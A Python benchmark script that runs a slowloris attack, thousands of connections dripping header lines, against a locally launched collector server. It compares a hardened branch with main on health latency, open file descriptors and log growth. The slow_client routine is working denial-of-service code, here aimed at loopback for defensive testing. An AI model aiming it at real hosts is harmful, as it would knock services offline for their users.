"""Slowloris against the collector: health latency, file descriptors and log growth.

Thousands of connections send a request head one header line at a time, one line every
`--drip` seconds; one the server closed is opened again at its next tick, as the slowloris
tool does (`--reconnect` sets that delay; 0.1 makes it a connection flood as well).
Meanwhile a probe, in its own thread with blocking sockets (so the attackers' event loop
cannot delay it), asks GET /api/v1/health every 0.25 s on a fresh connection (5 s timeout).
Every second the server's open file descriptors (/proc/PID/fd) are counted. The server's log
(stdout and stderr, at uvicorn's "info" level as `serve` runs it) is a file whose growth is
measured.

Two servers, one after the other, same attack: `--target branch` is `dvc-collector serve`
(this branch: GuardedH11Protocol, RepeatFilter); `--target main` is what main's `serve` ran
(uvicorn with the stock h11 protocol and logging). The server's open-file limit is set with
`--server-nofile` (this machine: `ulimit -n` 20000, shared by the attacker's sockets), and
reported.

    .venv/bin/python bench/bench_slowloris.py --connections 10000 --seconds 60
"""

from __future__ import annotations

import argparse
import asyncio
import os
import platform
import resource
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
HEAD = b"GET /api/v1/health HTTP/1.1\r\nHost: collector\r\n"


def free_port() -> int:
    """A free loopback port."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
        return port


def start_server(target: str, folder: Path, port: int, nofile: int) -> tuple[Any, Path]:
    """The collector in its own process, its log in a file."""
    database = f"sqlite:///{folder / 'collector.db'}"
    env = {**os.environ, "PYTHONPATH": str(ROOT), "PYTHONUNBUFFERED": "1"}
    subprocess.run(
        [sys.executable, "-m", "collector.cli", "--database", database, "stats"],
        env=env,
        check=True,
        capture_output=True,
    )  # migrates the database once
    if target == "branch":
        command = [
            sys.executable, "-m", "collector.cli", "--database", database, "serve",
            "--port", str(port),
        ]  # fmt: skip
    else:
        env.update({"DATABASE_URL": database, "DVC_COLLECTOR_SKIP_MIGRATIONS": "1"})
        command = [
            sys.executable, "-m", "uvicorn", "collector.app:app_from_env", "--factory",
            "--host", "127.0.0.1", "--port", str(port), "--proxy-headers",
            "--log-level", "info", "--http", "h11",
        ]  # fmt: skip
    log_path = folder / f"{target}.log"
    log = log_path.open("wb")

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_NOFILE, (nofile, nofile))

    process = subprocess.Popen(
        command, env=env, stdout=log, stderr=subprocess.STDOUT, preexec_fn=limit
    )
    return process, log_path


async def wait_healthy(port: int, timeout: float = 60) -> None:
    """Until GET /api/v1/health answers."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if await probe(port, 2) is not None:
            return
        await asyncio.sleep(0.2)
    raise RuntimeError("server did not start")


async def probe(port: int, timeout: float) -> float | None:
    """Seconds for one health request on a new connection, or None if it failed."""
    started = time.perf_counter()
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port), timeout)
    except (OSError, TimeoutError):
        return None
    try:
        writer.write(HEAD + b"Connection: close\r\n\r\n")
        remaining = timeout - (time.perf_counter() - started)
        answer = await asyncio.wait_for(reader.read(), max(0.01, remaining))
        return time.perf_counter() - started if answer.startswith(b"HTTP/1.1 200") else None
    except (OSError, TimeoutError):
        return None
    finally:
        writer.close()


async def slow_client(
    port: int, drip: float, reconnect: float, stop: asyncio.Event, counts: dict[str, int]
) -> None:
    """One slowloris connection: a header line every `drip` s; reconnect when closed."""
    while not stop.is_set():
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port), 10)
        except (OSError, TimeoutError):
            counts["connect_failed"] += 1
            await asyncio.sleep(0.5)
            continue
        counts["opened"] += 1
        try:
            writer.write(HEAD)
            while not stop.is_set():
                try:
                    data = await asyncio.wait_for(reader.read(1024), drip)
                except TimeoutError:
                    writer.write(b"X-Slow: 1\r\n")
                    await writer.drain()
                    continue
                if not data:
                    break  # closed by the server
        except OSError:
            pass
        finally:
            counts["closed"] += 1
            writer.close()
        await asyncio.sleep(reconnect)


def blocking_probe(port: int, timeout: float) -> float | None:
    """Seconds for one health request on a new blocking connection, or None if it failed."""
    started = time.perf_counter()
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
            sock.sendall(HEAD + b"Connection: close\r\n\r\n")
            answer = b""
            while chunk := sock.recv(4096):
                answer += chunk
                if time.perf_counter() - started > timeout:
                    return None
    except OSError:
        return None
    return time.perf_counter() - started if answer.startswith(b"HTTP/1.1 200") else None


def open_files(pid: int) -> int:
    """How many file descriptors the process holds."""
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return -1


async def attack(args: argparse.Namespace, target: str, folder: Path) -> dict[str, Any]:
    """Run one server under the attack; gather the figures."""
    port = free_port()
    process, log_path = start_server(target, folder, port, args.server_nofile)
    try:
        await wait_healthy(port)
        log_before = log_path.stat().st_size
        stop = asyncio.Event()
        counts = {"opened": 0, "closed": 0, "connect_failed": 0}
        clients = []
        for index in range(args.connections):
            clients.append(
                asyncio.create_task(slow_client(port, args.drip, args.reconnect, stop, counts))
            )
            if index % 200 == 199:
                await asyncio.sleep(0.05)  # ramp up over a few seconds
        # The probe runs in its own thread with blocking sockets, so the attackers' event
        # loop (10,000 tasks in this process) cannot delay it: its latency is the server's.
        latencies: list[float | None] = []
        files: list[int] = []
        done = threading.Event()

        def probing() -> None:
            started = time.monotonic()
            next_sample = started
            while time.monotonic() - started < args.seconds:
                latencies.append(blocking_probe(port, 5))
                if time.monotonic() >= next_sample:
                    files.append(open_files(process.pid))
                    next_sample += 1
                time.sleep(0.25)
            done.set()

        threading.Thread(target=probing, daemon=True).start()
        while not done.is_set():
            await asyncio.sleep(0.5)
        alive = process.poll() is None
        stop.set()
        for client in clients:
            client.cancel()
        await asyncio.gather(*clients, return_exceptions=True)
        log_growth = log_path.stat().st_size - log_before
    finally:
        process.terminate()
        try:
            process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            process.kill()
    answered = sorted(t for t in latencies if t is not None)
    return {
        "target": target,
        "probes": len(latencies),
        "failed": sum(t is None for t in latencies),
        "p50": statistics.median(answered) if answered else None,
        "p99": answered[max(0, int(len(answered) * 0.99) - 1)] if answered else None,
        "max": answered[-1] if answered else None,
        "files_max": max(files) if files else None,
        "log_growth": log_growth,
        "alive": alive,
        **counts,
    }


def main() -> int:
    """Attack each target in turn and print a Markdown table."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--connections", type=int, default=10_000)
    parser.add_argument("--seconds", type=float, default=60)
    parser.add_argument("--drip", type=float, default=10, help="seconds between header lines")
    parser.add_argument("--reconnect", type=float, default=10, help="seconds before reopening")
    parser.add_argument("--server-nofile", type=int, default=4096)
    parser.add_argument("--target", choices=["branch", "main", "both"], default="both")
    args = parser.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = args.connections + 200
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(wanted, hard), hard))
    targets = ["main", "branch"] if args.target == "both" else [args.target]
    results = []
    with tempfile.TemporaryDirectory() as folder:
        for target in targets:
            results.append(asyncio.run(attack(args, target, Path(folder))))
            print(f"{target}: done", flush=True)
    load = os.getloadavg()
    print(
        f"\n{datetime.now(UTC):%Y-%m-%d %H:%M} UTC, {platform.platform()}, {os.cpu_count()} CPUs, "
        f"Python {platform.python_version()}; attacker ulimit -n {soft}/{hard}, server "
        f"ulimit -n {args.server_nofile}; {args.connections} slow connections for "
        f"{args.seconds:g} s, one header line every {args.drip:g} s, reopened after "
        f"{args.reconnect:g} s; load average "
        f"{load[0]:.1f} / {load[1]:.1f} / {load[2]:.1f}\n"
    )
    print(
        "| server | health probes | failed (5 s) | p50 | p99 | max | server fds (max) | "
        "log growth | slow connections opened / closed | server alive |"
    )
    print("|---|---:|---:|---:|---:|---:|---:|---:|---:|---|")

    def ms(value: float | None) -> str:
        return f"{value * 1000:.0f} ms" if value is not None else "—"

    for r in results:
        print(
            f"| {r['target']} | {r['probes']} | {r['failed']} | {ms(r['p50'])} | {ms(r['p99'])} "
            f"| {ms(r['max'])} | {r['files_max']} | {r['log_growth'] / 1024:.1f} KiB | "
            f"{r['opened']} / {r['closed']} | {'yes' if r['alive'] else 'NO'} |"
        )
    return 0


if __name__ == "__main__":
    sys.exit(main())
